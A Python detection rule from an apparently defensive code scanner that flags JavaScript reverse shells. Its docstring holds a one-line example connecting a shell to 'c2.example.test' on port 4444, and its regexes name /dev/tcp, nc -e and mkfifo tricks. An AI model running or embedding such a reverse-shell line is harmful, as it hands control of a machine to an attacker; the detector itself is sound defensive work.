"""A shell's input and output are connected to a network connection that the script opened.

What it sees
    `socket.pipe(shell.stdin)` or `shell.stdout.pipe(socket)` where the socket was opened by this script and the process
    is a shell; commands such as `bash -i >& /dev/tcp/...`.

Why it matters
    Whoever answers on the other side sits at this machine's command line.

Example
    `net.connect(4444, "c2.example.test", function () { this.pipe(sh.stdin); sh.stdout.pipe(this) })`

What to do
    Do not run it. If it ran, disconnect the machine and treat the account as taken over.

False alarms
    Web terminals wait for connections and ask for a login; they do not connect to a constant address.

References
    ATT&CK T1059.004, T1059.003, T1095
"""

import itertools
import re
from collections.abc import Iterator

from lazaretto.detect.jscode import in_tests, one_per_line, phase_of
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.javascript import JavaScriptModule
from lazaretto.parse.js_nodes import callee_of

_PIPES = re.compile(rb"\.\s*pipe\s*\(\s*(?:[\w$]{1,40}\s*(?:\?\.|\.)\s*stdin|[\w$]{1,40})\s*\)")
_SHELL = re.compile(
    rb"[\"'`](?:[\w/\\:]{0,30}[/\\])?(?:ba|z|da|k)?sh[\"'`]|[\"'`](?:[\w/\\:]{0,40}\\)?(?:cmd|powershell|pwsh)(?:\.exe)?[\"'`]|ComSpec"
    rb"|process\.env\.SHELL"
)
_LINE = re.compile(
    r"/dev/(?:tcp|udp)/|\bnc(?:at)?\b[^\n|]{0,80}\s-[a-z]{0,4}e\s|mkfifo\s[^\n]{1,120}\bnc\b|Net\.Sockets\.TCPClient"
)


def check(module: JavaScriptModule) -> Iterator[Match]:
    """Every shell that is given to the other side."""
    yield from one_per_line(itertools.chain(_piped(module), _lines(module)))


def _piped(module: JavaScriptModule) -> Iterator[Match]:
    source = module.source
    if b"child_" not in source or b".pipe" not in source or _SHELL.search(source) is None:
        return
    for hit in itertools.islice(_PIPES.finditer(source), 20):
        node = module.at(hit.end() - 1, hit.end())
        call = node.parent.parent if node is not None and node.parent is not None else None
        target = callee_of(call) if call is not None and call.type == "call_expression" else None
        holder = target.child_by_field_name("object") if target is not None else None
        if call is None or holder is None or b"stdin" not in hit[0]:
            continue
        if holder.type == "this" or "socket" in module.flow.value(holder).tags:
            yield _match(
                module,
                call.start_byte,
                call.end_byte,
                N_("connects a shell's input and output to a network connection"),
                {},
            )


def _lines(module: JavaScriptModule) -> Iterator[Match]:
    for execution in module.executions:
        text = execution.code.text or execution.code.url if execution.kind == "command" else ""
        if text and _LINE.search(text[:4000]):
            node = execution.node
            yield _match(
                module,
                node.start_byte,
                node.end_byte,
                N_("opens a shell to another machine: {command}"),
                {"command": text[:120]},
            )


def _match(module: JavaScriptModule, start: int, end: int, template: str, params: dict[str, object]) -> Match:
    line, column = module.position(start)
    return Match(
        template,
        line=line,
        column=column,
        params=params,
        excerpt=module.quote(start, end),
        confidence=Confidence.MEDIUM if in_tests(module.path) else Confidence.HIGH,
        phase=phase_of(module.path),
    )


RULE = Rule(
    id="js/reverse-shell",
    title=N_("Opens a shell to another machine"),
    view=JavaScriptModule,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1059.004", "T1095"),
    needles=(b"child_",),
)
